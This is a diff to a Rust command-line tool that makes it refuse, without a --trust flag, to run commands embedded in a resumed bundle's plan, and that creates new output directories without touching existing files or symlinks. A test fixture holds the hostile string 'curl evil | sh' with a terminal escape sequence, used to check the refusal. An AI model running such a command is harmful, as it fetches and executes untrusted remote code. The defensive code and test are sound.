@@ -8,9 +8,10 @@ use tactus_model::bundle::Present;
 use tactus_model::plan::{OTHER_STATE, Plan};
 use tactus_report::document;
 use tactus_report::render::text::{Style, render};
-use tactus_run::plan::{Choices, STUDIES, Source, parse, study, this_machine};
+use tactus_report::units::{clean, shortened};
+use tactus_run::plan::{Choices, STUDIES, Source, commands, parse, study, this_machine};
 use tactus_run::{Destination, keep_complete};
-use tactus_system::{Real, System};
+use tactus_system::{Directory, Real, System};
 
 use super::execute::{prepare, present, run as execute};
 use super::seed;
@@ -26,7 +27,12 @@ pub fn run(arguments: &Run) -> Result<Exit, Failure> {
         _ => None,
     };
     let (plan, source) = match (&arguments.plan, &resumed) {
-        (None, Some(resumed)) => (resumed.plan.clone(), Source::new("source.toml", "")),
+        (None, Some(resumed)) => {
+            if !arguments.trust {
+                nothing_foreign(&resumed.plan)?;
+            }
+            (resumed.plan.clone(), Source::new("source.toml", ""))
+        }
         (name, _) => plan(name.as_deref())?,
     };
     let mut choices = Choices {
@@ -52,8 +58,10 @@ pub fn run(arguments: &Run) -> Result<Exit, Failure> {
         say(sentence(state));
     }
     let mut resolved = prepare(&plan, &source, &choices)?;
-    let new = arguments.into.as_ref().or(arguments.out.as_ref());
-    let out = new.cloned().unwrap_or_else(|| default_dir(&plan.name));
+    let out = match arguments.into.as_ref().or(arguments.out.as_ref()) {
+        Some(named) => named.clone(),
+        None => new_dir(&plan.name)?,
+    };
     let into = match &resumed {
         Some(resumed) => {
             let kept = keep_complete(resumed, &mut resolved)?;
@@ -149,8 +157,88 @@ fn plan(name: Option<&str>) -> Result<(Plan, Source), Failure> {
     Ok((parse(&source)?, source))
 }
 
-/// `./tactus-PLAN-TIME`, with the local time.
-pub fn default_dir(plan: &str) -> PathBuf {
+/// Most of a bundle's commands that are told before it is trusted, and most columns of each.
+const SHOWN: (usize, usize) = (20, 200);
+
+/// Refuses to run what the plan of a bundle says and nobody here has written: whoever made the bundle wrote that too.
+fn nothing_foreign(plan: &Plan) -> Result<(), Failure> {
+    let foreign = commands(plan);
+    if foreign.is_empty() {
+        return Ok(());
+    }
+    let (most, columns) = SHOWN;
+    let mut told: Vec<String> =
+        foreign.iter().take(most).map(|one| format!("  {}", shortened(&clean(one), columns))).collect();
+    if foreign.len() > most {
+        told.push(format!("  and {} more", foreign.len() - most));
+    }
+    Err(Failure::say(
+        format!(
+            "the bundle's own plan runs or reaches what whoever made the bundle chose:\n{}",
+            told.join("\n")
+        ),
+        "give the plan too (`tactus run PLAN --into BUNDLE`), or say --trust when you know who wrote it",
+    ))
+}
+
+/// Makes `./tactus-PLAN-TIME`, with the local time. What is there already, whoever put it there, is left alone.
+pub fn new_dir(plan: &str) -> Result<PathBuf, Failure> {
+    const TRIES: u32 = 100;
     let now = jiff::Zoned::now().strftime("%Y%m%d-%H%M%S").to_string();
-    PathBuf::from(format!("tactus-{}-{now}", tactus_model::bundle::slug(plan)))
+    let first = format!("tactus-{}-{now}", tactus_model::bundle::slug(plan));
+    make_new((1..=TRIES).map(|n| if n == 1 { first.clone() } else { format!("{first}-{n}") }.into()))
+}
+
+/// Makes the first of these directories that is not there.
+fn make_new(names: impl Iterator<Item = PathBuf>) -> Result<PathBuf, Failure> {
+    let mut last = PathBuf::new();
+    for name in names {
+        match Directory::create(&name) {
+            Ok(_) => return Ok(name),
+            Err(error) if error.kind() == io::ErrorKind::AlreadyExists => last = name,
+            Err(error) => {
+                return Err(Failure::say(
+                    format!("{}: {error}", name.display()),
+                    "name a directory that can be made with --out DIR",
+                ));
+            }
+        }
+    }
+    Err(Failure::say(format!("{} is there already", last.display()), "name a new directory with --out DIR"))
+}
+
+#[cfg(test)]
+#[expect(clippy::disallowed_methods, reason = "what others plant is planted beside the door")]
+mod tests {
+    use std::fs;
+    use std::os::unix::fs::symlink;
+
+    use super::*;
+
+    #[test]
+    fn what_others_planted_under_our_name_is_left_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let at = |n: u32| dir.path().join(format!("tactus-x-{n}"));
+        fs::create_dir(at(1)).unwrap();
+        symlink(dir.path().join("elsewhere"), at(2)).unwrap();
+        fs::write(at(3), "kept").unwrap();
+        let made = make_new((1..9).map(at)).unwrap();
+        assert_eq!(made, at(4));
+        assert!(!dir.path().join("elsewhere").exists() && fs::read_dir(at(1)).unwrap().count() == 0);
+        assert!(make_new((1..=4).map(at)).is_err());
+    }
+
+    #[test]
+    fn commands_of_a_bundle_are_told_before_they_run_and_cannot_spoil_the_terminal() {
+        let mut plan = this_machine(&Real);
+        nothing_foreign(&plan).unwrap();
+        let line = tactus_model::plan::Environment {
+            kind: "serial".into(),
+            options: [("command".to_owned(), "curl evil | sh\n\u{1b}[2K".into())].into(),
+            ..Default::default()
+        };
+        plan.environment.insert("line".into(), line);
+        let said = format!("{:?}", nothing_foreign(&plan).unwrap_err());
+        assert!(said.contains("curl evil | sh") && said.contains("--trust"), "{said}");
+    }
 }
